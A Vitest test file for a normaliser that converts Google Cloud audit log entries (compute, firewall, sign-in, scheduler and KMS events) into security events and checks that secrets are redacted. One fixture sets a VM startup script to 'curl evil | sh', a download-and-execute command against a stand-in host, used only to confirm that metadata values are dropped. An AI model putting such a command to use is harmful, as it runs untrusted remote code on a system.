import { describe, expect, it } from 'vitest';
import { LogEntry } from '../../../schemas/log-entry.ts';
import { decodeEntry } from '../../../shared/envelope/entry.ts';
import { ordinals } from '../../../shared/envelope/event-id.ts';
import type { AuditEventDraft } from '../../../shared/model/event.ts';
import { iam } from '../../../shared/sources/iam/index.ts';
import { kubernetes } from '../../../shared/sources/kubernetes/index.ts';
import { logging } from '../../../shared/sources/logging/index.ts';
import { platform } from '../../../shared/sources/platform/index.ts';
import { constructed, eventOf, eventsOf } from '../../support/audit-samples.ts';
import { throwsNothing } from '../../support/constructed.ts';
import { sampleLines } from '../../support/samples.ts';

const all = constructed('platform');
const CONTROL_PLANE = [iam, logging, kubernetes, platform];

const told = (
  serviceName: string,
  methodName: string,
  payload: Record<string, unknown> = {},
): AuditEventDraft =>
  eventOf(
    platform,
    LogEntry.parse({
      logName: 'projects/p/logs/cloudaudit.googleapis.com%2Factivity',
      protoPayload: { serviceName, methodName, ...payload },
    }),
  );

describe('ownership', () => {
  it('gives every entry of the control plane to one source', () => {
    for (const source of CONTROL_PLANE) {
      for (const entry of constructed(source.name)) {
        expect(CONTROL_PLANE.filter((one) => one.owns(entry)).map(({ name }) => name)).toEqual([source.name]);
      }
    }
  });
});

describe('machines', () => {
  it('run under the account they were given', () => {
    const request = {
      serviceAccounts: [{ email: 'w@p.iam.gserviceaccount.com', scopes: ['https://x/auth/cloud-platform'] }],
    };
    const event = told('compute.googleapis.com', 'beta.compute.instances.insert', { request });
    expect(event).toMatchObject({
      action: 'compute.change',
      identity: { runAs: { kind: 'google', email: 'w@p.iam.gserviceaccount.com' } },
      claims: { scopes: '["cloud-platform"]' },
    });
  });

  it('tell which metadata was touched, and never what it says', () => {
    const { claims } = told('compute.googleapis.com', 'v1.compute.instances.setMetadata', {
      request: { metadata: { items: [{ key: 'startup-script', value: 'curl evil | sh' }] } },
      metadata: { instanceMetadataDelta: { addedMetadataKeys: ['ssh-keys'] } },
    });
    expect(claims).toEqual({ metadataKeys: '["ssh-keys","startup-script"]' });
  });

  it('are opened to everybody by a rule that says so in either address family', () => {
    for (const range of ['0.0.0.0/0', '::/0']) {
      const request = {
        sourceRanges: ['10.0.0.0/8', range],
        alloweds: [{ IPProtocol: 'tcp', ports: ['8088'] }],
      };
      const { claims } = told('compute.googleapis.com', 'v1.compute.firewalls.patch', { request });
      expect(claims).toMatchObject({ fromEverywhere: true, allowed: '[["tcp","8088"]]' });
    }
  });

  it('have flow logs that are switched off as a change of logging', () => {
    const request = { enableFlowLogs: 'false' };
    const off = told('compute.googleapis.com', 'v1.compute.subnetworks.patch', { request });
    expect(off).toMatchObject({ action: 'log.change', claims: { logged: false } });
    expect(told('compute.googleapis.com', 'v1.compute.subnetworks.insert', { request }).action).toBe(
      'network.change',
    );
  });
});

describe('sign-ins', () => {
  it('that OS Login refuses are refused, although the call succeeded', () => {
    const method = 'google.cloud.oslogin.dataplane.OsLoginDataPlaneService.CheckPolicy';
    const ask = (success: boolean): AuditEventDraft =>
      told('oslogin.googleapis.com', method, { response: { success } });
    expect([ask(true).outcome, ask(false).outcome]).toEqual(['allowed', 'denied']);
  });

  it('through a tunnel are told from requests to a web application', () => {
    const through = (permission: string): string =>
      told('iap.googleapis.com', 'AuthorizeUser', { authorizationInfo: [{ permission, granted: true }] })
        .action;
    expect(through('iap.tunnelInstances.accessViaIAP')).toBe('exec.interactive');
    expect(through('iap.webServiceVersions.accessViaIAP')).toBe('api.call');
  });

  it('at a serial console name a user whom nobody proved', () => {
    const event = told('europe-west1-ssh-serialport.googleapis.com', 'google.ssh-serialport.v1.connect', {
      request: { username: 'ana' },
    });
    expect(event.identity).toEqual({ caller: { kind: 'named', name: 'ana', realm: 'serial-console' } });
  });

  it('that failed are no sign-ins', () => {
    expect(told('login.googleapis.com', 'google.login.LoginService.loginFailure').outcome).toBe('denied');
  });
});

describe('schedules', () => {
  const scheduled = (uri: string): AuditEventDraft['claims'] =>
    told('cloudscheduler.googleapis.com', 'google.cloud.scheduler.v1.CloudScheduler.CreateJob', {
      request: { job: { name: 'projects/p/locations/l/jobs/j', httpTarget: { uri, httpMethod: 'POST' } } },
    }).claims;

  it('that start a job are recognised by what they call', () => {
    const uri = 'https://dataproc.googleapis.com/v1/projects/p/locations/l/batches?batchId=x';
    expect(scheduled(uri)).toMatchObject({ targetCall: 'dataproc CreateBatch' });
  });

  it('keep credentials of the target to themselves', () => {
    expect(scheduled('https://u:pw@h.example.com/x?key=pw#pw')).toEqual({
      scheduledJob: 'j',
      target: 'https://h.example.com/x',
    });
  });
});

describe('keys', () => {
  it.each(['Encrypt', 'google.cloud.kms.v1.KeyManagementService.Decrypt'])(
    'used by %s all day are left out',
    (methodName) => {
      const protoPayload = { serviceName: 'cloudkms.googleapis.com', methodName };
      const entry = LogEntry.parse({ protoPayload });
      expect(platform.normalise(entry)).toEqual({ kind: 'filtered', rule: 'platform-key-use' });
      expect(
        eventOf(platform, LogEntry.parse({ protoPayload: { ...protoPayload, status: { code: 7 } } })).action,
      ).toBe('key.use');
    },
  );

  it('that signed are told', () => {
    expect(told('cloudkms.googleapis.com', 'AsymmetricSign').action).toBe('key.use');
  });
});

describe('constructed samples', () => {
  it('are marked, and show both ends of the actions', () => {
    expect(all.every((entry) => entry.labels?.['jobtrail.example/constructed'] === 'true')).toBe(true);
    const ends = Map.groupBy(eventsOf(platform), ({ action }) => action);
    for (const action of [
      'compute.change',
      'network.change',
      'exec.interactive',
      'login',
      'secret.read',
      'key.change',
      'key.use',
      'org.change',
      'policy.change',
      'deploy',
      'artifact.change',
      'schedule.change',
    ] as const) {
      const outcomes = new Set((ends.get(action) ?? []).map(({ outcome }) => outcome));
      expect(outcomes, action).toContain('allowed');
      expect(outcomes.has('denied') || outcomes.has('failed'), action).toBe(true);
    }
  });

  it('let no secret into an event', () => {
    expect(JSON.stringify(all)).toContain('s3cr3t');
    expect(JSON.stringify(eventsOf(platform))).not.toContain('s3cr3t');
  });
});

describe('any entry', () => {
  it('never throws, whatever stands where a field is read', () => {
    expect(() => throwsNothing(platform, all)).not.toThrow();
  });
});

describe('entries by others', () => {
  const owned = ['audit-generic', 'iam']
    .flatMap((folder) => sampleLines(folder))
    .flatMap(({ lines }) =>
      lines.flatMap((line) => decodeEntry(Buffer.from(line), { ordinalOf: ordinals() })),
    )
    .flatMap((decoded) => (decoded.kind === 'entry' && platform.owns(decoded.entry) ? [decoded.entry] : []));

  it.skipIf(owned.length === 0)('are stored or left out by name', () => {
    const results = owned.map((entry) => platform.normalise(entry));
    expect(results.filter(({ kind }) => kind === 'refused')).toEqual([]);
    const unknown = results.flatMap((result) =>
      result.kind === 'event' && result.unknownMethod !== undefined ? [result.unknownMethod] : [],
    );
    // Made up by their publisher, for a service that does not exist.
    expect(unknown.filter((name) => !name.startsWith('randomservice.'))).toEqual([]);
  });
});
